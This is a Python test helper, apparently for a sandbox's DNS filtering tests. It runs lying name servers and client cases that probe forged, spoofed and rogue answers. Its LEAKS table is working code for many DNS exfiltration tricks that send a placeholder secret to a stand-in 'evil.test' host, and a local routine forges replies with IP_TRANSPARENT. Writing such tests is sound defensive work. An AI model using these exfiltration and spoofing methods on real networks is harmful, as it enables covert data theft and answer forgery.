# SPDX-License-Identifier: Apache-2.0
#
# Name servers that lie, and clients that try them; for 51-dns.sh.
#
#   dns.py web                  port 80 at every address; prints those it is reached at
#   dns.py serve ADDRESS [PORT] a server that answers as the first label of a name says
#   dns.py try CASE...          asks, connects to what the answer gave; prints ok or EPERM
#   dns.py leak                 sends data out in questions, in every way
#   dns.py local ADDRESS        forges answers on this host to its own question
import errno, os, select, socket, struct, sys, threading

SERVER, LIAR, ROGUE, NAT = "192.0.2.53", "192.0.2.54", "192.0.2.66", "192.0.2.55"
A, CNAME, TXT, NULL, ANY, AAAA = 1, 5, 16, 10, 255, 28
IP_TRANSPARENT = 19

def name_wire(name):
    out = b""
    for label in name.split("."):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out + b"\0"

def question(name, kind=A, ident=0x1234, count=1, flags=0x0100, extra=b"", arcount=0):
    body = (name_wire(name) + struct.pack(">HH", kind, 1)) * count
    return struct.pack(">HHHHHH", ident, flags, count, 0, 0, arcount) + body + extra

def record(owner, kind, data, ttl=60):
    return owner + struct.pack(">HHIH", kind, 1, ttl, len(data)) + data

def record_a(owner, addr, ttl=60):
    return record(owner, A, socket.inet_aton(addr), ttl)

ME = b"\xc0\x0c"

def response(query, records, ident=None, name=None, flags=0x8180):
    end = 12
    while query[end]:
        end += query[end] + 1
    end += 5
    q = query[12:end] if name is None else name_wire(name) + query[end - 4:end]
    ident = struct.unpack(">H", query[:2])[0] if ident is None else ident
    return (struct.pack(">HHHHHH", ident, flags, 1, len(records), 0, 0) + q + b"".join(records))

def qname(query):
    at, labels = 12, []
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode().lower())
        at += query[at] + 1
    return ".".join(labels)

# What the liar says to a question whose first label is "KIND-A-B": about 198.18.A.B.
def lie(query):
    name = qname(query)
    kind, a, b = (name.split(".")[0].split("-") + ["0", "1"])[:3]
    addr = "198.18.%s.%s" % (a, b)
    if kind == "chain":
        first, second = name_wire("a.cdn.test"), name_wire("b.cdn.test")
        return [response(query, [record(ME, CNAME, first), record(first, CNAME, second),
                                 record_a(second, addr)])]
    if kind == "many":
        return [response(query, [record_a(ME, "198.18.%s.%d" % (a, i)) for i in range(1, 65)])]
    if kind == "cut":
        return [response(query, [record_a(ME, addr)], flags=0x8380)]
    if kind == "id":
        return [response(query, [record_a(ME, addr)], ident=0x4321)]
    if kind == "name":
        return [response(query, [record_a(ME, addr)], name="good.test")]
    if kind == "loop":
        return [response(query, [record_a(struct.pack(">H", 0xc000 | len(query)), addr)])]
    if kind == "other":
        return [response(query, [record_a(name_wire("other.test"), addr)])]
    if kind == "none":
        return [response(query, [record_a(ME, addr)], flags=0x8183)]
    if kind == "query":
        return [response(query, [record_a(ME, addr)], flags=0x0100)]
    return [response(query, [record_a(ME, addr)])]

def serve(addr, port=53):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((addr, port))
    odd = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    odd.bind((addr, 5353))
    tcp = socket.socket()
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind((addr, port))
    tcp.listen(64)
    heard = open("/tmp/heard-" + addr, "a", buffering=1)
    streams = {}
    print("ready", flush=True)
    while True:
        for sock in select.select([udp, tcp] + list(streams), [], [])[0]:
            if sock is udp:
                query, peer = udp.recvfrom(65536)
                print("udp", query.hex(), file=heard)
                try:
                    out = odd if qname(query).startswith("port-") else udp
                    for answer in lie(query):
                        out.sendto(answer, peer)
                except (IndexError, ValueError, OSError, struct.error):
                    pass
            elif sock is tcp:
                streams[tcp.accept()[0]] = b""
            else:
                try:
                    serve_stream(sock, streams, heard)
                except (IndexError, ValueError, OSError, struct.error):
                    streams.pop(sock, None)
                    sock.close()

def serve_stream(sock, streams, heard):
    try:
        data = sock.recv(65536)
    except OSError:
        data = b""
    if not data:
        del streams[sock]
        sock.close()
        return
    print("tcp", data.hex(), file=heard)
    buf = streams[sock] + data
    while len(buf) >= 2 and len(buf) >= 2 + struct.unpack(">H", buf[:2])[0]:
        size = struct.unpack(">H", buf[:2])[0]
        query, buf = buf[2:2 + size], buf[2 + size:]
        for answer in lie(query):
            answer = struct.pack(">H", len(answer)) + answer
            if qname(query).startswith("split-"):
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                sock.sendall(answer[:20])
                threading.Event().wait(0.05)
                answer = answer[20:]
            sock.sendall(answer)
    streams[sock] = buf

def web():
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", 80))
    sock.listen(1024)
    print("ready", flush=True)
    while True:
        conn = sock.accept()[0]
        print(conn.getsockname()[0], flush=True)
        try:
            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")
            conn.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        conn.close()

# ---- Clients ----

def why(error):
    return errno.errorcode.get(error.errno, str(error))

def dial(addr, port=80):
    sock = socket.socket()
    sock.settimeout(5)
    try:
        sock.connect((addr, port))
        return "ok"
    except OSError as error:
        return why(error)
    finally:
        sock.close()

def ask(message, server=LIAR, connected=True):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    try:
        if connected:
            sock.connect((server, 53))
            sock.send(message)
        else:
            sock.sendto(message, (server, 53))
        return sock.recv(4096)
    except OSError as error:
        return error
    finally:
        sock.close()

def ask_stream(*pieces, server=LIAR, want=1):
    sock = socket.create_connection((server, 53), 5)
    sock.settimeout(5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces:
        sock.sendall(piece)
        if piece is not pieces[-1]:
            threading.Event().wait(0.05)
    got = b""
    while want:
        data = sock.recv(4096)
        if not data:
            break
        got += data
        while want and len(got) >= 2 and len(got) >= 2 + struct.unpack(">H", got[:2])[0]:
            got = got[2 + struct.unpack(">H", got[:2])[0]:]
            want -= 1
    sock.close()

def framed(message):
    return struct.pack(">H", len(message)) + message

def of_udp(name, addr, **how):
    answer = ask(question(name, **{k: v for k, v in how.items() if k not in ("server", "connected")}),
                 **{k: v for k, v in how.items() if k in ("server", "connected")})
    if isinstance(answer, OSError):
        return "asked:" + why(answer) + " " + dial(addr)
    return dial(addr)

def stream_two():
    ask_stream(framed(question("n-20-1.good.test")) + framed(question("n-20-2.good.test", ident=2)),
               want=2)
    return dial("198.18.20.1") + "/" + dial("198.18.20.2")

def stream(name, addr, cut=0):
    message = framed(question(name))
    ask_stream(*([message[:cut], message[cut:]] if cut else [message]))
    return dial(addr)

def unsolicited():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.sendto(question("id-30-1.good.test"), (LIAR, 53))	# to be heard from
    sock.recv(4096)
    sock.sendto(question("name-30-2.evil.test"), (LIAR, 53))	# answers about good.test
    sock.recv(4096)
    return dial("198.18.30.1") + "/" + dial("198.18.30.2")

# A and AAAA at once under one id, each asked twice, as a resolver in a hurry does.
def parallel(server=LIAR, name="n-22-1.good.test", addr="198.18.22.1"):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    for kind in (A, AAAA, AAAA, A):
        sock.sendto(question(name, kind=kind), (server, 53))
    for kind in range(4):
        sock.recv(4096)
    return dial(addr)

def another_socket():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect((LIAR, 53))
    one.send(question("n-31-1.good.test", ident=77))
    two = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    two.settimeout(2)
    two.connect((LIAR, 53))
    two.send(question("name-31-2.evil.test", ident=77))
    two.recv(4096)
    return dial("198.18.31.2")

CASES = {
    "udp": lambda: of_udp("n-1-1.good.test", "198.18.1.1"),
    "unconnected": lambda: of_udp("n-1-2.good.test", "198.18.1.2", connected=False),
    "mixed": lambda: of_udp("n-1-3.GoOD.TeSt", "198.18.1.3"),
    "chain": lambda: of_udp("chain-1-4.good.test", "198.18.1.4"),
    "many": lambda: [of_udp("many-2-1.good.test", "198.18.2.1")] and dial("198.18.2.64"),
    "cut": lambda: of_udp("cut-1-5.good.test", "198.18.1.5"),
    "long": lambda: of_udp("n-1-6." + ("x" * 63 + ".") * 3 + "y" * 45 + ".good.test",
                           "198.18.1.6"),
    "edns": lambda: of_udp("n-1-7.good.test", "198.18.1.7", arcount=1,
                           extra=b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)),
    "parallel": parallel,
    # To where NAT leads elsewhere than to port 53.
    "nat": lambda: of_udp("n-22-2.good.test", "198.18.22.2", server=NAT),
    "nat-unconnected": lambda: of_udp("n-22-3.good.test", "198.18.22.3", server=NAT, connected=False),
    "nat-parallel": lambda: parallel(NAT, "n-22-4.good.test", "198.18.22.4"),
    "stream": lambda: stream("n-21-1.good.test", "198.18.21.1"),
    "stream-two": stream_two,
    "stream-split": lambda: stream("n-21-2.good.test", "198.18.21.2", cut=2),
    "answer-split": lambda: stream("split-21-3.good.test", "198.18.21.3"),
    # Not to be believed:
    "forbidden": lambda: of_udp("n-3-1.evil.test", "198.18.3.1"),
    "near": lambda: of_udp("n-3-2.evilgood.test", "198.18.3.2"),
    "id": lambda: of_udp("id-3-3.good.test", "198.18.3.3"),
    "name": lambda: of_udp("name-3-4.evil.test", "198.18.3.4"),
    "port": lambda: of_udp("port-3-5.good.test", "198.18.3.5", connected=False),
    "loop": lambda: of_udp("loop-3-6.good.test", "198.18.3.6"),
    "other": lambda: of_udp("other-3-7.good.test", "198.18.3.7"),
    "none": lambda: of_udp("none-3-8.good.test", "198.18.3.8"),
    "query": lambda: of_udp("query-3-9.good.test", "198.18.3.9"),
    "type": lambda: of_udp("n-3-10.good.test", "198.18.3.10", kind=TXT),
    "rogue": lambda: of_udp("n-3-11.good.test", "198.18.3.11", server=ROGUE),
    "domain": lambda: of_udp("n-3-13.good.test.corp.test", "198.18.3.13"),
    "two-questions": lambda: of_udp("n-3-12.good.test", "198.18.3.12", count=2),
    "unsolicited": unsolicited,
    "another-socket": another_socket,
}

# ---- Data in questions: each case sends what no rule allows, by a way of its own ----

SECRET = "s3cr3t.evil.test"

def sends(how):
    try:
        how()
        return "sent"
    except OSError as error:
        return why(error)

def datagram(*messages, connected=True, server=LIAR, options=()):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for level, name, value in options:
        sock.setsockopt(level, name, value)
    if connected:
        sock.connect((server, 53))
        sock.sendmsg(list(messages))
    else:
        sock.sendmsg(list(messages), [], 0, (server, 53))

def corked():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((LIAR, 53))
    message = question(SECRET)
    sock.send(message[:20], socket.MSG_MORE)
    sock.send(message[20:])

def segmented():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((LIAR, 53))
    one, two = question("aaaaaaaa.good.test"), question("s3cr3t.x.evil.test")
    sock.setsockopt(socket.SOL_UDP, 103, len(one))	# UDP_SEGMENT
    sock.send(one + two[:len(one)])

# The first question is allowed: what it leaves behind must not carry the second.
def nat_again():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(question("n-22-5.good.test"), ("127.0.0.11", 53))
    sock.sendto(question(SECRET), ("127.0.0.11", 53))

def with_options():
    datagram(question(SECRET), options=[(socket.SOL_IP, socket.IP_OPTIONS, b"\x01\x01\x01\x01")])

# What is refused is sent again by TCP: it must be refused then, too.
streams = []

def over_stream(*pieces):
    sock = socket.create_connection((LIAR, 53), 5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces:
        sock.sendall(piece)
        threading.Event().wait(0.02)
    streams.append(sock)

def urgent():
    sock = socket.create_connection((LIAR, 53), 5)
    message = framed(question(SECRET))
    sock.send(message[:3], socket.MSG_OOB)
    sock.send(message[3:])
    streams.append(sock)

LEAKS = {
    "plain": lambda: datagram(question(SECRET)),
    "unconnected": lambda: datagram(question(SECRET), connected=False),
    "long": lambda: datagram(question(("s3cr3t" + "x" * 57 + ".") * 3 + "evil.test")),
    "txt": lambda: datagram(question(SECRET, kind=TXT)),
    "null": lambda: datagram(question(SECRET, kind=NULL)),
    "any": lambda: datagram(question(SECRET, kind=ANY)),
    "edns": lambda: datagram(question(SECRET, arcount=1,
                                      extra=b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0))),
    "two": lambda: datagram(struct.pack(">HHHHHH", 1, 0x100, 2, 0, 0, 0) +
                            name_wire("a.good.test") + struct.pack(">HH", 1, 1) +
                            name_wire(SECRET) + struct.pack(">HH", 1, 1)),
    "pointer": lambda: datagram(struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\6s3cr3t\xc0\x00"
                                + struct.pack(">HH", 1, 1)),
    "odd": lambda: datagram(question("s3cr3t evil.good.test")),
    "response": lambda: datagram(question(SECRET, flags=0x8180)),
    "update": lambda: datagram(question(SECRET, flags=0x2800)),
    "chaos": lambda: datagram(question(SECRET)[:-1] + b"\3"),
    "no-dns": lambda: datagram(b"s3cr3t"),
    "domain": lambda: datagram(question(SECRET + ".corp.test")),
    "domain-alone": lambda: datagram(question("s3cr3t.corp.test")),
    "profile": lambda: datagram(question("s3cr3t.profile.test")),
    "pieces": lambda: datagram(question(SECRET)[:15], question(SECRET)[15:]),
    "corked": corked,
    "segmented": segmented,
    "options": with_options,
    "stub": lambda: datagram(question(SECRET), server="127.0.0.53"),
    "nat": lambda: datagram(question(SECRET), server=NAT),
    "nat-unconnected": lambda: datagram(question(SECRET), server=NAT, connected=False),
    "nat-home": lambda: datagram(question(SECRET), server="127.0.0.11"),
    "nat-home-unconnected": lambda: datagram(question(SECRET), server="127.0.0.11", connected=False),
    "nat-again": nat_again,
    "stream": lambda: over_stream(framed(question(SECRET))),
    "stream-split": lambda: over_stream(framed(question(SECRET))[:2], framed(question(SECRET))[2:]),
    "stream-second": lambda: over_stream(framed(question("a.good.test")) + framed(question(SECRET))),
    "stream-later": lambda: over_stream(framed(question("a.good.test")), framed(question(SECRET))),
    "stream-bytes": lambda: over_stream(*[b"%c" % c for c in b"\0\6s3cr3t"]),
    "stream-no-dns": lambda: over_stream(b"s3cr3t" * 100),
    "urgent": urgent,
}

# Asks a server for an allowed name, and answers itself, faster, under the server's address.
def local(addr):
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.settimeout(1)
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    forger.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    forger.bind((addr, 53))
    asker.bind(("0.0.0.0", 0))
    query = question("id-4-4.good.test", ident=9)
    asker.sendto(query, (addr, 53))
    home = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"
    forger.sendto(response(query, [record_a(ME, "198.18.4.4")]), (home, asker.getsockname()[1]))
    got = []
    try:
        while True:
            got.append(asker.recvfrom(4096))
    except OSError:
        pass
    print("forged" if any(peer[0] == addr and data[:2] == query[:2] for data, peer in got) else "lost")

if __name__ == "__main__":
    what = sys.argv[1]
    if what == "serve":
        serve(sys.argv[2], *map(int, sys.argv[3:]))
    elif what == "web":
        web()
    elif what == "try":
        for case in sys.argv[2:]:
            print(case, CASES[case]())
    elif what == "leak":
        for case in LEAKS:
            print(case, sends(LEAKS[case]))
        threading.Event().wait(1)
    elif what == "dial":
        print(dial(sys.argv[2]))
    elif what == "local":
        local(sys.argv[2])
